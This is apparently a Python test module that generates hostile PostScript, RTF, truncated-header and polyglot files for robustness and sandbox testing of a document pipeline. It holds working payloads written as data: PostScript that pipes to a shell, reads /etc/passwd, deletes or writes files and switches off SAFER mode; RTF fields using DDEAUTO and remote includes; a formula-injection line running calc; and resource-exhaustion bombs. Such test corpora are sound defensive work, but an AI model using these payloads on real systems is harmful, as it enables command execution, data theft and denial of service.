"""Hostile PostScript and RTF, and files that are nothing or several things at once."""

# ruff: noqa: E501 - hostile files have long lines

from collections.abc import Iterable

from tests.hostile.corpus_pictures import png
from tests.hostile.hostile import Hostile, Lures, made
from tests.unit.documents import document_makers as makers
from tests.unit.documents import picture_makers

MEGA = 1_000_000
_PAGE = "0 0 moveto 99 99 lineto stroke showpage"
_MAGICS = (
    b"%PDF-", b"%PDF-1.7\n%%EOF", b"II*\0", b"MM\0*", b"II+\0", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff",
    b"GIF87a", b"GIF89a", b"RIFF\0\0\0\0WEBP", b"BM\0\0\0\0\0\0\0\0\0\0\0\0\x28\0\0\0", b"P1 1 1", b"P6 9 9 255\n",
    b"\0\0\0\x18ftypheic", b"PK\3\4", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"{\\rt", b"{\\rtf1", b"%!PS",
    b"\xc5\xd0\xd3\xc6", b"\x1b%-12345X@PJL %!PS", b"<html>", b"<!DOCTYPE html>", b"From: a\r\n\r\n",
    b"PK\3\4mimetypeapplication/vnd.oasis.opendocument.text", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff",
    b"\xff\xfe\0\0", b"\x1f\x8b", b"MZ", b"#!/bin/sh\n", b"SIMPLE  =",
)  # fmt: skip


def programs(secret: str) -> dict[str, tuple[str, str]]:
    reads = f"({secret}) (r) file 500 string readstring pop 9 9 moveto show showpage"
    return {
        "loop": ("{ } loop", "no end"),
        "loop that stops for nothing": ("{ { { } loop } stopped } loop", "errors caught"),
        "pages": (f"{{ {_PAGE} }} loop", "pages without end"),
        "recursion": ("/a { a a } def a", "a stack overflows"),
        "deep procedure": ("{" * 100_000, "a stack overflows"),
        "memory": ("[ { 60000 string } loop", "all memory"),
        "arrays": ("/a 60000 array def 0 1 59999 { a exch 60000 array put } for", "all memory"),
        "dictionaries": ("{ 60000 dict begin } loop", "all memory"),
        "saves": ("{ save } loop", "all levels"),
        "output": ("{ (words) print flush } loop", "output without end"),
        "errors": ("{ (%stderr) (w) file (words) writestring } loop", "output without end"),
        "file": (reads, "a file shown"),
        "run": (f"({secret}) run", "a file run"),
        "library": (f"({secret}) .libfile {{ 99 string readstring }} if", "a file read"),
        "pipe": ("(%pipe%id >/tmp/canary-flew) (w) file closefile", "a program"),
        "pipe to read": ("(%pipe%cat /etc/passwd) (r) file 99 string readstring pop show", "a program"),
        "delete": (f"({secret}) deletefile", "a file removed"),
        "rename": (f"({secret}) (/tmp/canary-flew) renamefile", "a file moved"),
        "write": ("(/tmp/canary-flew) (w) file (x) writestring", "a file written"),
        "write here": ("{ 1000 { (x) (w) file 65535 string writestring } repeat } stopped", "files"),
        "names": ("(/*) { == } 99 string filenameforall", "names of files"),
        "another output": ("<</OutputFile (/tmp/canary-flew)>> setpagedevice showpage", "a file written"),
        "piped output": ("<</OutputFile (%pipe%sh)>> setpagedevice showpage", "a program"),
        "other device": ("(x11) selectdevice showpage", "a display"),
        "unsafe": ("<</SAFER false /PermitFileReading [(*)]>> setuserparams " + reads, "walls taken down"),
        "unlocked": (".unlockdevice false .setsafe systemdict /SAFER false put " + reads, "walls taken down"),
        "huge page": ("<</PageSize [1e9 1e9]>> setpagedevice showpage", "a page of a square kilometre"),
        "no page": ("<</PageSize [0 0]>> setpagedevice showpage", "a page of nothing"),
        "no numbers": ("1e38 1e38 scale 1e38 dup dup mul moveto 9 9 lineto stroke showpage", "no numbers"),
        "copies": ("<</NumCopies 2147483647>> setpagedevice /#copies 999999 def showpage", "copies"),
        "picture": ("99999 99999 8 [1 0 0 1 0 0] { 65535 string } image showpage", "10,000 megapixels"),
        "picture of itself": ("9999 dup 8 [1 0 0 1 0 0] currentfile image showpage", "read as pixels"),
        "filters": ("currentfile " + "/FlateDecode filter " * 500 + "65535 string readstring", "500 filters"),
        "paths": ("0 0 moveto { 9 9 lineto 99 0 rlineto } 500000 { dup exec } repeat fill showpage", "a path"),
        "pattern": ("<</PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 1e-5/YStep 1e-5/PaintProc{pop 0 0 9 9 rectfill}>> matrix makepattern setpattern 0 0 600 800 rectfill showpage", "tiles"),
        "fonts": ("{ /Helvetica findfont 1e9 scalefont setfont (W) show } 9999 { dup exec } repeat showpage", "letters"),
        "shading": ("<</ShadingType 1/ColorSpace/DeviceGray/Function<</FunctionType 4/Domain[0 1 0 1]/Range[0 1]/Decode[0 1]>>>> shfill showpage", "a function"),
        "nothing": ("", "a program without pages"),
        "quit": ("quit", "an end at once"),
        "stack": ("clear cleardictstack end end end", "nothing left"),
        "redefined": ("systemdict /showpage { /x 65535 string def } put /stop {} def /handleerror {} def { _PAGE_ } loop", "errors hidden"),
    }  # fmt: skip


def postscript() -> Iterable[Hostile]:
    for name, (_, reason) in programs("").items():

        def make(lures: Lures, name: str = name) -> bytes:
            return b"%!PS\n" + programs(str(lures.secret))[name][0].encode()

        yield Hostile(f"ps {name}", reason, make, reaches_out=name in {"file", "run", "unsafe"})
    box = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: -2147483648 -1e30 2147483647 nan\nshowpage"
    yield made("eps box", "a box of everything", box)
    lie = b"\xc5\xd0\xd3\xc6\xff\xff\xff\xff\xff\xff\xff\xff" + bytes(18) + b"%!PS\nshowpage"
    yield made("eps lie", "a program beyond the end", lie)


def rtfs() -> Iterable[Hostile]:
    texts = {
        "bin": (r"{\rtf1\bin2147483647 x", "two gigabytes of nothing"),
        "bin backwards": (r"{\rtf1\bin-9 x", "less than nothing"),
        "braces": (r"{\rtf1" + "{" * 200_000, "a stack overflows"),
        "unbalanced": (r"{\rtf1" + "}" * 200_000, "a stack is empty"),
        "huge picture": (r"{\rtf1{\pict\pngblip\picwgoal2147483647\pichgoal2147483647 " + png(60_000, 60_000).hex() + "}}", "3,600 megapixels"),
        "metafile": (r"{\rtf1{\pict\wmetafile8\picw9\pich9 " + "0100090000ffffffff" + "00" * 999 + "}}", "records that lie"),
        "object": (r"{\rtf1{\object\objemb\objupdate{\*\objclass Package}{\*\objdata " + "01050000" + "ff" * 9999 + "}}}", "an object run"),
        "table": (r"{\rtf1\trowd" + r"\cellx1" * 50_000 + r"\intbl x\cell\row}", "50,000 columns"),
        "tables": (r"{\rtf1" + r"\trowd\itap99\cellx9\intbl x\nestcell\nestrow" * 2000 + "}", "tables in tables"),
        "pages": (r"{\rtf1" + r"\page x" * 20_000 + "}", "more than a fax may have"),
        "numbers": (r"{\rtf1\paperw-1\paperh0\margl99999999\fs-99\li2147483647\fi-2147483648 x\par}", "no sheet"),
        "codes": (r"{\rtf1\ansicpg99999\uc2147483647\u-99999? \u8238? x}", "characters that are none"),
        "fonts": (r"{\rtf1{\fonttbl" + "".join(rf"{{\f{n} a{n};}}" for n in range(60_000)) + "}x}", "60,000 fonts"),
    }  # fmt: skip
    for name, (text, reason) in texts.items():
        yield made(f"rtf {name}", reason, text.encode())

    def everywhere(lures: Lures) -> bytes:
        body = "".join(
            rf'{{\*\template {address}}}{{\field{{\*\fldinst INCLUDEPICTURE "{address}" \\d}}'
            rf'{{\fldrslt x}}}}{{\field{{\*\fldinst INCLUDETEXT "{address}"}}{{\fldrslt x}}}}'
            rf'{{\field{{\*\fldinst DDEAUTO sh "{address}"}}{{\fldrslt x}}}}'
            for address in (each.replace("\\", "\\\\") for each in lures.addresses)
        )
        return (r"{\rtf1 Words" + body + "}").encode()

    def linked(lures: Lures) -> bytes:
        link = lures.web.encode().hex()
        kind = r"\object\objautlink\objupdate\rsltpict{\*\objclass Word.Document.8}"
        return f"{{\\rtf1 Words{{{kind}{{\\*\\objdata {link}}}}}}}".encode()

    yield Hostile("rtf everywhere", "templates, pictures, words", everywhere, reaches_out=True)
    yield Hostile("rtf linked", "an object elsewhere", linked, reaches_out=True)


def nothings() -> Iterable[Hostile]:
    yield made("nothing", "no byte", b"")
    for byte in (b"\0", b"\n", b" ", b"%", b"\xff", b"<", b"{"):
        yield made(f"one byte {byte!r}", "one byte", byte)
    for magic in _MAGICS:
        yield made(f"only {magic[:12]!r}", "a beginning of a file and no more", magic)
        yield made(f"blanks after {magic[:12]!r}", "a beginning, then zeros", magic + bytes(999))


def polyglots() -> Iterable[Hostile]:
    pdf, picture = (
        makers.pdf_bytes(makers.text_content(2)),
        picture_makers.saved(picture_makers.PICTURE, "PNG"),
    )
    gif, zipped = picture_makers.saved(picture_makers.PICTURE, "GIF"), b"PK\3\4word/document.xml"
    yield made(
        "pdf behind html",
        "a PDF to some, a page to others",
        b"<html><script>while(1);</script>" + pdf,
    )
    yield made(
        "pdf behind a script", "a program to a shell", b"#!/bin/sh\ntouch /tmp/canary-flew\n" + pdf
    )
    yield made("picture and pdf", "a picture to some", picture + pdf)
    yield made("gif and archive", "a picture to some", gif + zipped)
    yield made("pdf and postscript", "a program to some", b"%!PS\n{ } loop\n" + pdf)
    yield made("rtf and html", "a page to some", b"{\\rtf1 <html><script>while(1);</script>}")
    yield made(
        "archive and all", "three names in one", zipped + b"xl/workbook ppt/presentation" + pdf
    )
    yield made("flat office xml", "an office document that is text",
               b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:'
               b'xmlns:office:1.0" office:mimetype="application/vnd.oasis.opendocument.text"/>')  # fmt: skip
    yield made("sql", "a database's dump", b"CREATE TABLE a (b TEXT);\n" * 999)
    yield made(
        "table of commands", "a table to a spreadsheet", b"=cmd|'/c calc'!A1,=WEBSERVICE(\"x\")\n"
    )


def files() -> list[Hostile]:
    """Return them all."""
    return [*postscript(), *rtfs(), *nothings(), *polyglots()]
